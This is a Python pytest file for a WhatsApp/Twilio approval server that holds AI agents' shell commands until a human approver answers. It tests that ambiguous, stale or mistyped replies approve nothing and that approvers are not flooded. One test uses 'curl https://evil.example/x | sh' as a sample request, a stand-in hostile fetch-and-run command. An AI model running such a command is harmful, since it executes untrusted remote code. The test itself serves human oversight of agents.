"""WhatsApp answers are bound to what the approver read, and one approver is not flooded: against the real server,
a local fake Twilio and signed webhooks.

A reply names its request (an id, or the message it answers); a bare "yes" counts only when the conversation leaves
no doubt; an id that names no open request never answers another; past a few requests a minute, one message says
how many more wait. A template Twilio refuses is sent as text; an approver never sent a request is not told of it.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from tests.fake_twilio import FakeTwilio, Message
from tests.support import ServerProcess, wait_for_pending, wait_for_status
from tests.whatsapp_support import ALICE, BOB, PUBLIC_URL, make_template, text_of

TOOL = "permissions__approve"
QUIET = 0.4  # APPROVAL_WHATSAPP_QUIET_SECONDS where a test waits it out


def bash(command: str) -> dict[str, Any]:
    return {"tool_name": "Bash", "input": {"command": command}}


def request_message(fake: FakeTwilio, number: str, request_id: str) -> Message | None:
    """The last message to `number` that asks about `request_id` (its buttons or its reply instructions)."""
    found = [
        m
        for m in fake.sent
        if m.to == f"whatsapp:{number}"
        and ((m.content_variables or {}).get("2") == request_id or f"Approval request {request_id}" in (m.body or ""))
    ]
    return found[-1] if found else None


async def asked(fake: FakeTwilio, number: str, request_id: str, within: float = 10) -> Message:
    for _ in range(int(within / 0.02)):
        message = request_message(fake, number, request_id)
        if message is not None:
            return message
        await asyncio.sleep(0.02)
    raise AssertionError(f"request {request_id} was not sent to {number}")


async def told(fake: FakeTwilio, number: str, *needles: str, after: int = 0, within: float = 10) -> str:
    """The text of the first message to `number`, past its first `after` ones, that holds every needle."""
    for _ in range(int(within / 0.02)):
        for message in [m for m in fake.sent if m.to == f"whatsapp:{number}"][after:]:
            if all(needle in text_of(message) for needle in needles):
                return text_of(message)
        await asyncio.sleep(0.02)
    sent = [text_of(m) for m in fake.sent if m.to == f"whatsapp:{number}"]
    raise AssertionError(f"nothing to {number} says {needles}: {sent}")


def count_to(fake: FakeTwilio, number: str) -> int:
    return len([m for m in fake.sent if m.to == f"whatsapp:{number}"])


async def status_of(api: httpx.AsyncClient, request_id: str) -> str:
    status: str = (await api.get(f"/api/requests/{request_id}")).json()["status"]
    return status


async def test_a_bare_yes_typed_about_a_dropped_request_does_not_allow_the_next(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    """The issue's case: A waits, the agent drops A and at once asks B; "yes", typed about A, must not allow B."""
    server = start_whatsapp()
    async with server.mcp() as mcp, server.api() as api:
        first = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("git status")))
        a = await wait_for_pending(api, {"input": {"command": "git status"}})
        await asked(fake, ALICE, a["id"])
        first.cancel()
        await wait_for_status(api, a["id"], "cancelled")
        second = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("curl https://evil.example/x | sh")))
        b = await wait_for_pending(api, {"input": {"command": "curl https://evil.example/x | sh"}})
        await asked(fake, ALICE, b["id"])
        before = count_to(fake, ALICE)
        assert (await fake.send_inbound(from_=ALICE, body="yes")).status_code == 200
        refusal = await told(fake, ALICE, "Not applied", after=before)
        assert await status_of(api, b["id"]) == "pending"
        second.cancel()
    assert f"APPROVE {b['id']}" in refusal
    assert b["id"] in refusal


async def test_a_bare_answer_counts_only_once_the_conversation_is_settled(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    server = start_whatsapp(APPROVAL_WHATSAPP_QUIET_SECONDS=str(QUIET))
    async with server.mcp() as mcp, server.api() as api:
        call = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("git status")))
        pending = await wait_for_pending(api)
        await asked(fake, ALICE, pending["id"])
        before = count_to(fake, ALICE)
        await fake.send_inbound(from_=ALICE, body="yes")  # the message has only just arrived
        await told(fake, ALICE, "Not applied", f"APPROVE {pending['id']}", after=before)
        assert await status_of(api, pending["id"]) == "pending"
        # The refusal is now the last thing Alice got: a bare answer needs the request's message to be that.
        await fake.send_inbound(from_=ALICE, body="yes")
        await told(fake, ALICE, "Not applied", after=before + 1)
        assert await status_of(api, pending["id"]) == "pending"
        # A swipe-reply to the request's message names it, at any time.
        message = await asked(fake, ALICE, pending["id"])
        await fake.send_inbound(from_=ALICE, body="yes", extra={"OriginalRepliedMessageSid": message.sid})
        answer = json.loads((await call).content[0].text)
    assert answer["behavior"] == "allow"

    async with server.mcp() as mcp, server.api() as api:
        call = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("git log")))
        pending = await wait_for_pending(api, {"input": {"command": "git log"}})
        await asked(fake, ALICE, pending["id"])
        await asked(fake, BOB, pending["id"])
        await asyncio.sleep(QUIET + 0.2)
        await fake.send_inbound(from_=BOB, body="no")  # one request, its message the last Bob got, nothing since
        answer = json.loads((await call).content[0].text)
    assert answer["behavior"] == "deny"
    assert answer["message"].startswith(f"Denied by {BOB} via whatsapp")


async def test_a_bare_answer_is_refused_when_something_the_approver_was_shown_closed_after(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    """A and B both shown; A then withdrawn: B is the only one waiting, yet "no" could be about A."""
    server = start_whatsapp(APPROVAL_WHATSAPP_QUIET_SECONDS=str(QUIET))
    async with server.mcp() as mcp, server.api() as api:
        first = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("make deploy")))
        a = await wait_for_pending(api, {"input": {"command": "make deploy"}})
        await asked(fake, ALICE, a["id"])
        second = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("make test")))
        b = await wait_for_pending(api, {"input": {"command": "make test"}})
        await asked(fake, ALICE, b["id"])
        first.cancel()
        await wait_for_status(api, a["id"], "cancelled")
        await asyncio.sleep(QUIET + 0.2)
        before = count_to(fake, ALICE)
        await fake.send_inbound(from_=ALICE, body="no")
        refusal = await told(fake, ALICE, "Not applied", after=before)
        assert await status_of(api, b["id"]) == "pending"
        second.cancel()
    assert f"other messages came after request {b['id']}'s" in refusal
    assert f"Reply APPROVE {b['id']} or DENY {b['id']}" in refusal


async def test_a_reply_to_a_message_answers_that_messages_request_and_no_other(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    server = start_whatsapp(TWILIO_CONTENT_SID=make_template(fake))
    async with server.mcp() as mcp, server.api() as api:
        calls = {}
        rows = {}
        for command in ("git status", "git push --force"):
            calls[command] = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash(command)))
            rows[command] = await wait_for_pending(api, {"input": {"command": command}})
        a, b = rows["git status"], rows["git push --force"]
        to_a = await asked(fake, ALICE, a["id"])
        # A swipe-reply "yes" to A's message, while B waits too: it allows A.
        await fake.send_inbound(from_=ALICE, body="yes", extra={"OriginalRepliedMessageSid": to_a.sid})
        assert json.loads((await calls["git status"]).content[0].text)["behavior"] == "allow"
        # A tap on A's buttons now (a template made before ids were in the buttons: no id) changes nothing, says so,
        # and does not fall to B.
        before = count_to(fake, ALICE)
        await fake.tap_button(from_=ALICE, replied_to=to_a.sid, payload="deny", title="Deny")
        await told(fake, ALICE, f"Request {a['id']} is already allowed; your answer changed nothing", after=before)
        # A reply to a message that is not a request's (the refusal, a notice) binds to nothing.
        notice = [m for m in fake.sent if m.to == f"whatsapp:{ALICE}" and m.content_sid is None][-1]
        await fake.send_inbound(from_=ALICE, body="approve", extra={"OriginalRepliedMessageSid": notice.sid})
        refusal = await told(fake, ALICE, "the message you answered", after=before + 1)
        # Bob's reply naming a message sent to Alice is not bound by it.
        await fake.send_inbound(from_=BOB, body="yes", extra={"OriginalRepliedMessageSid": to_a.sid})
        await told(fake, BOB, "Not applied")
        assert await status_of(api, b["id"]) == "pending"
        calls["git push --force"].cancel()
    assert b["id"] in refusal


@pytest.mark.parametrize(
    "reply",
    [
        "DENY {short}",  # one character short
        "deny {typo} too risky",  # one character wrong
        "APPROVE {typo}",
        "no {prefix}",
        "DENY 7kq2m9xa",  # an id, well formed, of no request
        "deny {short}.",  # one character short, then a full stop
        "APPROVE *{short}*",  # in WhatsApp's bold
        "DENY `{typo}` too risky",  # in WhatsApp's monospace
    ],
)
async def test_an_id_that_names_no_request_never_answers_another(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio, reply: str
) -> None:
    server = start_whatsapp(APPROVAL_WHATSAPP_QUIET_SECONDS="0")
    async with server.mcp() as mcp, server.api() as api:
        call = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("terraform destroy")))
        pending = await wait_for_pending(api)
        await asked(fake, ALICE, pending["id"])
        request_id = pending["id"]
        typo = request_id[:-1] + ("2" if request_id[-1] != "2" else "3")
        text = reply.format(short=request_id[:-1], typo=typo, prefix=request_id[:5])
        before = count_to(fake, ALICE)
        await fake.send_inbound(from_=ALICE, body=text)
        refusal = await told(fake, ALICE, "Not applied", after=before)
        row = (await api.get(f"/api/requests/{request_id}")).json()
        call.cancel()
    assert (row["status"], row["answers"]) == ("pending", [])
    assert "there is no request" in refusal
    assert f"Waiting: {request_id}." in refusal
    assert f"Reply APPROVE {request_id} or DENY {request_id}" in refusal


async def test_an_id_copied_with_punctuation_answers_its_request(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    """Two requests wait, so nothing but the id can say which: `APPROVE <id>.` names it as `APPROVE <id>` does."""
    server = start_whatsapp(APPROVAL_WHATSAPP_QUIET_SECONDS="0")
    async with server.mcp() as mcp, server.api() as api:
        calls = {}
        rows = {}
        for command in ("make test", "make deploy"):
            calls[command] = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash(command)))
            rows[command] = await wait_for_pending(api, {"input": {"command": command}})
            await asked(fake, ALICE, rows[command]["id"])
        await fake.send_inbound(from_=ALICE, body=f"APPROVE {rows['make deploy']['id']}.")
        await wait_for_status(api, rows["make deploy"]["id"], "allowed", within=10)
        assert await status_of(api, rows["make test"]["id"]) == "pending"
        for call in calls.values():
            call.cancel()


@pytest.mark.parametrize(("code", "http_status"), [(21655, 400), (20500, 500)])
async def test_a_template_twilio_refuses_sends_the_request_as_text_and_it_waits(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio, code: int, http_status: int
) -> None:
    """A stale content SID (21655), or any other refusal of the template: each approver gets the request as plain
    text, it waits for them, and their typed answer decides it. Nothing else is sent about it before."""
    template = make_template(fake)
    fake.refuse_content(template, code, http_status=http_status)
    server = start_whatsapp(TWILIO_CONTENT_SID=template)
    async with server.mcp() as mcp, server.api() as api:
        call = asyncio.create_task(mcp.call_tool_mcp(TOOL, bash("git push")))
        pending = await wait_for_pending(api)
        to_alice = await asked(fake, ALICE, pending["id"])
        to_bob = await asked(fake, BOB, pending["id"])
        await asyncio.sleep(1)
        assert await status_of(api, pending["id"]) == "pending"
        assert {m.sid for m in fake.sent} == {to_alice.sid, to_bob.sid}
        await fake.send_inbound(from_=ALICE, body=f"APPROVE {pending['id']}")
        answer = json.loads((await call).content[0].text)
    assert answer["behavior"] == "allow"
    assert (to_alice.content_sid, to_bob.content_sid) == (None, None)
    assert f"Reply APPROVE {pending['id']} or DENY {pending['id']}" in text_of(to_alice)
    refused = [r for r in fake.requests if r.params.get("ContentSid") == template]
    assert len(refused) == 2
    assert {r.status_code for r in refused} == {http_status}


async def test_an_approver_no_message_reached_is_never_told_how_the_request_ended(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    """Twilio accepts the request's message to each approver, then reports it failed (63015: not in the Sandbox): the
    request is denied, and no phone hears about a request it never showed."""
    fake.fail_delivery(to=ALICE, error_code=63015, times=1)
    fake.fail_delivery(to=BOB, error_code=63015, times=1)
    server = start_whatsapp()
    async with server.mcp() as mcp:
        result = await asyncio.wait_for(mcp.call_tool_mcp(TOOL, bash("rm -rf build")), timeout=20)
    answer = json.loads(result.content[0].text)
    assert answer["behavior"] == "deny"
    assert "No approval channel could reach anyone" in answer["message"]
    await asyncio.sleep(1)  # a notice would be on its way by now
    assert [m.history[-1] for m in fake.sent] == ["failed", "failed"]


async def test_past_a_few_a_minute_one_message_says_how_many_more_wait(
    start_whatsapp: Callable[..., ServerProcess], fake: FakeTwilio
) -> None:
    server = start_whatsapp(APPROVAL_WHATSAPP_PER_MINUTE="3")
    async with server.mcp() as mcp, server.api() as api:
        calls = [asyncio.create_task(mcp.call_tool_mcp(TOOL, bash(f"echo {n}"))) for n in range(12)]
        for n in range(12):
            await wait_for_pending(api, {"input": {"command": f"echo {n}"}})
        summary = await told(fake, ALICE, "more wait")
        await told(fake, BOB, "more wait")
        await asyncio.sleep(0.5)  # nothing more comes
        to_alice = [text_of(m) for m in fake.sent if m.to == f"whatsapp:{ALICE}"]
        pending = (await api.get("/api/requests", params={"status": "pending"})).json()["requests"]
        # A held-back request is answered on the dashboard or with the CLI, as any other.
        held = next(row for row in pending if not any(row["id"] in text for text in to_alice))
        decided = await api.post(f"/api/requests/{held['id']}/decision", json={"decision": "allow"})
        assert decided.status_code == 200
        for call in calls:
            call.cancel()
        for _ in range(500):  # the 3 announcements (a loaded machine takes its time), then nothing more comes
            if count_to(fake, ALICE) >= len(to_alice) + 3:
                break
            await asyncio.sleep(0.02)
        await asyncio.sleep(0.5)
        after_ending = [text_of(m) for m in fake.sent if m.to == f"whatsapp:{ALICE}"]
    assert len(to_alice) == 4  # 3 requests, then the one message
    assert len([t for t in to_alice if t.startswith("🔔 Approval request")]) == 3
    assert "9 more wait" in summary
    assert f"{PUBLIC_URL}/" in summary
    assert len(pending) == 12  # every request still waits
    # Of the requests that ended, only the 3 Alice was sent are announced to her.
    assert len(after_ending) - len(to_alice) == 3
